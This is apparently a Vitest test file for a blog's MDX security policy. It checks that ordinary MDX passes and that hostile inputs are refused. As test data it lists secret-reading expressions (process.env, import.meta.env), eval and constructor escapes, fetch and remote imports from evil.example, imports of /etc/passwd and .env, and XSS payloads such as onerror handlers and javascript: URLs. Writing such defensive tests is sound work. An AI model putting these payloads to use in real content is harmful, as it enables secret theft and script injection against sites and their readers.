/**
 * What MDX posts may not do (src/content/mdx-code-policy.ts), through the same
 * source checks the posts loader runs: refusals name the line; ordinary MDX
 * (expressions over local data, components, relative imports) passes.
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { checkSource, parseSource } from '../../src/content/source-checks.ts';
import { projectRoot } from '../helpers/build.ts';

const display = 'tests/fixtures/hostile/mdx-allowed/index.mdx';
const file = join(projectRoot, display);

/** The problems of an MDX body as "line: message" (the body starts on line 1 here). */
function problems(body: string): string[] {
  const tree = parseSource(body, 'mdx', display, 1);
  if (tree instanceof Error) throw tree;
  return checkSource(tree, file, display, 1).problems.map((problem) => `${problem.line}: ${problem.detail}`);
}

const refused = (body: string) => {
  const found = problems(body);
  expect(found, body).toHaveLength(1);
  return found[0]!;
};

describe('MDX that passes', () => {
  it('expressions over its own data, components, relative and package imports', () => {
    const body = [
      "import figure from './figure.svg';",
      "import { Image } from 'astro:assets';",
      "import katex from 'katex';",
      "export const steps = ['前向', '反向'];",
      'export const model = { name: "ResNet", process: "训练", layers: [1, 2] };',
      '',
      '{steps.map((step, i) => <kbd key={i}>{step}</kbd>)} {steps[0]} {steps.at(-1)} {model.process} {model["name"]} {model.layers[1]}',
      '',
      '<Figure src={figure} alt="图" caption="说明" label="fig:a" />',
      '',
      '<Callout type="tip" {...{ title: "提示" }}>内容 {1 + 1} {"constructor"}</Callout>',
      '',
      '<a href="https://pytorch.org/" title="外链">PyTorch</a> <img src="/favicon.svg" alt="图标" /> <span style={{ color: "red" }}>红</span>',
      '',
      '<details><summary>展开</summary>{\'内容\'}</details> <abbr title="主成分分析">PCA</abbr> H<sub>2</sub>O',
    ].join('\n');
    expect(problems(body)).toEqual([]);
  });
});

describe('MDX code that reaches the build machine', () => {
  it.each([
    ['{process.env.SOME_SECRET}', '`process`'],
    ['{import.meta.env.SOME_SECRET}', '`import.meta`'],
    ["{require('node:fs')}", '`require`'],
    ['{globalThis.SOME_SECRET}', '`globalThis`'],
    ['{global.process}', '`global`'],
    ["{eval('1')}", '`eval`'],
    ["{Function('return 1')()}", '`Function`'],
    ["{new Function('return 1')}", '`Function`'],
    ["{import('node:fs')}", 'dynamic `import()`'],
    ["{fetch('https://evil.example/')}", '`fetch`'],
    ["{Reflect.get({}, 'x')}", '`Reflect`'],
    ["{''.constructor.constructor('return 1')()}", '`.constructor`'],
    ["{(() => 1)['constructor']}", '`.constructor`'],
    ['{(() => 1)[`constructor`]}', '`.constructor`'],
    ['{({}).__proto__}', '`.__proto__`'],
    ['{Object.getPrototypeOf(async () => 1)}', '`.getPrototypeOf`'],
    ['{[1, 2][Math.floor(Math.random() * 2)]}', 'computed key'],
    ['{(({ process }) => process)({})}', '`process`'],
    ['export const secret = process.env.SOME_SECRET;', '`process`'],
    ['export function f() { return require("fs"); }', '`require`'],
    ['<process.env.SOME_SECRET />', '`process`'],
  ])('%s', (body, what) => {
    expect(refused(body)).toMatch(
      new RegExp(`^1: MDX code may not (use|access) .*${what.replace(/[.*+?^${}()|[\]\\`]/g, '\\$&')}`),
    );
  });

  it('names the line of each use', () => {
    expect(problems('第一行\n\n{1 + 1}\n\n{process.env.A}\n\n{eval("2")}')).toEqual([
      expect.stringMatching(/^5: MDX code may not use `process`/),
      expect.stringMatching(/^7: MDX code may not use `eval`/),
    ]);
  });
});

describe('MDX imports', () => {
  it.each([
    ["import fs from 'node:fs';", 'Node built-in module "node:fs"'],
    ["import fs from 'fs';", 'Node built-in module "fs"'],
    ["import cp from 'child_process';", 'Node built-in module "child_process"'],
    ["import { spawn } from 'node:child_process';", 'Node built-in module "node:child_process"'],
    ["export * from 'node:os';", 'Node built-in module "node:os"'],
    ["export { readFileSync } from 'fs';", 'Node built-in module "fs"'],
    ["import passwd from '../../../../../../../../etc/passwd';", 'outside the project'],
    ["import passwd from '/etc/passwd';", 'outside the project'],
    ["import env from '../../../../.env';", 'hidden file'],
    ["import raw from './index.mdx?raw';", '?query'],
    ["import remote from 'https://evil.example/x.js';", 'only packages and files of the project'],
    ["import local from 'file:///etc/passwd';", 'only packages and files of the project'],
    ["import { SECRET } from 'astro:env/server';", 'only packages and files of the project'],
  ])('%s', (body, what) => {
    expect(refused(body)).toContain(what);
  });

  it('allows files of the project, from the post or from the root', () => {
    expect(
      problems(
        "import figure from './figure.svg';\nimport Callout from '/src/components/mdx/Callout.astro';\nimport x from '../../authoring/every-component/projection.svg';",
      ),
    ).toEqual([]);
  });
});

describe('HTML in MDX', () => {
  it.each([
    ["<script>{'alert(1)'}</script>", '<script>'],
    ['<iframe src="https://evil.example/" />', '<iframe>'],
    ['<object data="x.swf" />', '<object>'],
    ['<embed src="x.swf" />', '<embed>'],
    ["<style>{'body{}'}</style>", '<style>'],
    ['<form action="/x"><input /></form>', '<form>'],
    ['<base href="https://evil.example/" />', '<base>'],
    ['<meta httpEquiv="refresh" content="0" />', '<meta>'],
    ['<link rel="stylesheet" href="x.css" />', '<link>'],
    ['{<script>{"x"}</script>}', '<script>'],
    ['<div onClick={() => 1}>x</div>', 'event handlers (onClick on <div>)'],
    ['<img src="/a.png" alt="a" onerror="alert(1)" />', 'event handlers (onerror on <img>)'],
    ['<svg onLoad="alert(1)" />', 'event handlers (onLoad on <svg>)'],
    ['<Callout onClick="alert(1)">x</Callout>', 'event handlers (onClick on <Callout>)'],
    ['{<div onClick={() => 1} />}', 'event handlers (onClick on <div>)'],
    ['<a href="javascript:alert(1)">x</a>', 'script URLs'],
    ['<a href={" JaVa\\tScript:alert(1)"}>x</a>', 'script URLs'],
    ['<a href={`javascript:alert(1)`}>x</a>', 'script URLs'],
    ['<a href="java&#x73;cript:alert(1)">x</a>', 'script URLs'],
    ['<a href="data:text/html,x">x</a>', 'script URLs'],
    ['<div set:html="<img src=x onerror=alert(1)>" />', 'raw HTML (set:html on <div>)'],
    ['<div dangerouslySetInnerHTML={{ __html: "x" }} />', 'raw HTML (dangerouslySetInnerHTML on <div>)'],
    ["<div {...{ onclick: 'alert(1)' }}>x</div>", 'spread props onto <div>'],
  ])('%s', (body, what) => {
    expect(refused(body)).toContain(what);
  });
});
